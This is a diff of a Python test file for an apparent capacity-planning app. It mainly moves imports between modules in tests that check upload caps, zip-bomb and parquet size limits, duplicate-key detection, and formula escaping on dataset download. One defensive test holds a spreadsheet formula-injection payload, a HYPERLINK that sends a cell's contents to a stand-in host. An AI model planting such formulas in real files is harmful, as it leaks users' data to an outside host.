@@ -247,7 +247,7 @@ def _understated_zip(actual_bytes: int, declared: int = 1000) -> bytes:
 def test_zip_member_understating_its_size_is_streamed_with_a_cap() -> None:
     import tracemalloc
 
-    from ui.dataio import UploadedFile, UploadError, dataset_from_upload
+    from ui.upload import UploadedFile, UploadError, dataset_from_upload
 
     blob = _understated_zip(200 * 1024 * 1024)
     assert len(blob) < 1024 * 1024
@@ -265,7 +265,7 @@ def test_zip_over_the_byte_cap_with_honest_sizes_is_refused_before_reading() -> 
     import io
     import zipfile
 
-    from ui.dataio import UploadedFile, UploadError, dataset_from_upload
+    from ui.upload import UploadedFile, UploadError, dataset_from_upload
 
     buf = io.BytesIO()
     with zipfile.ZipFile(buf, "w", compression=zipfile.ZIP_DEFLATED) as zf:
@@ -278,7 +278,7 @@ def test_parquet_that_unpacks_beyond_the_limit_is_refused(tmp_path: Path) -> Non
     import pandas as pd
 
     from capacity.dataset import load_dataset as load
-    from ui.dataio import UploadedFile, UploadError, dataset_from_upload
+    from ui.upload import UploadedFile, UploadError, dataset_from_upload
 
     p = tmp_path / "demand.parquet"
     rows = [f"{i:08d}" + "x" * 300 for i in range(200_000)]  # 62 MB of distinct cells
@@ -325,7 +325,8 @@ def test_dataset_download_escapes_formula_cells_and_reads_back_the_same(tiny_dir
 
     import pandas as pd
 
-    from ui.dataio import UploadedFile, dataset_from_upload, dataset_zip_bytes
+    from ui.dataio import dataset_zip_bytes
+    from ui.upload import UploadedFile, dataset_from_upload
 
     evil = '=HYPERLINK("http://x.example/?"&A1,"click")'
     ds = load_dataset(tiny_dir)
@@ -385,8 +386,9 @@ def test_20k_duplicate_rows_are_checked_fast_and_each_names_its_first_row(
     import time
 
     from capacity.dataset import read_table_file
+    from capacity.parsing import parse_table
     from capacity.schema import SPECS
-    from capacity.validation import check_keys, parse_table
+    from capacity.table_checks import check_keys
 
     _duplicate_demand(tiny_dir, 20_000)
     raw = read_table_file(tiny_dir / "demand.csv")
@@ -403,8 +405,9 @@ def test_20k_duplicate_rows_are_checked_fast_and_each_names_its_first_row(
 
 def test_case_variant_duplicate_still_names_the_first_spelling(tiny_dir: Path) -> None:
     from capacity.dataset import read_table_file
+    from capacity.parsing import parse_table
     from capacity.schema import SPECS
-    from capacity.validation import check_keys, parse_table
+    from capacity.table_checks import check_keys
 
     lines = (tiny_dir / "demand.csv").read_text().splitlines()
     (tiny_dir / "demand.csv").write_text(
